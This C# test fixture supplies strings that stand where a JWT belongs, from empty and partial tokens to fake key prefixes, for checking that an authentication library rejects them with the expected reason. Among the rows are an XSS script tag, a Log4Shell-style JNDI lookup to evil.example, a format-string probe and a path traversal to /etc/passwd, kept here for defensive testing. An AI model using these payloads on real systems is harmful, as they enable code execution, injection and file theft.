using WsAuth.Reasons;
using WsAuth.Tokens;

namespace WsAuth.Testing.HostileCredentials;

/// <summary>What stands where a JWT belongs and is something else.</summary>
internal static class ForeignShapeRows
{
    public static IEnumerable<HostileCredential> All =>
        [
            .. Of(
                ReasonCatalogue.CredentialMalformed,
                "",
                "undefined",
                "null",
                "None",
                "NaN",
                "[object Object]",
                "Bearer",
                "''",
                "%20",
                "eyJ",
                "eyJhbGciOiJIUzI1NiJ9",
                "eyJhbGciOiJIUzI1NiJ9.e30",
                "a b"
            ),
            .. Of(
                ReasonCatalogue.CredentialKindRefused,
                "3f2504e0-4f89-41d3-9a0c-0305e82c3301",
                "session_4711",
                "s:4711.abc",
                "sk_live_4711",
                "ghp_4711",
                "opaque",
                "Undefined",
                ".",
                "..",
                "...",
                "a.b.c",
                "0",
                "{}",
                "{\"sub\":\"u1\"}",
                "<script>alert(1)</script>",
                "${jndi:ldap://evil.example/a}",
                "%n%s%x",
                "../../etc/passwd"
            ),
            .. Of(
                ReasonCatalogue.TokenMalformed,
                "eyJ..",
                "eyJ.e30.AA",
                "eyJhbGciOiJIUzI1NiJ9.e30.",
                "eyJhbGciOiJIUzI1NiJ9.e30.AA",
                "eyJhbGciOiJIUzI1NiJ9.e30.AA.AA.AA",
                "eyJhbGciOiJIUzI1NiJ9............"
            ),
        ];

    private static IEnumerable<HostileCredential> Of(Reason expected, params string[] texts) =>
        texts.Select(text => new HostileCredential($"foreign '{text}'", TokenKind.Jwt, _ => text, expected));
}
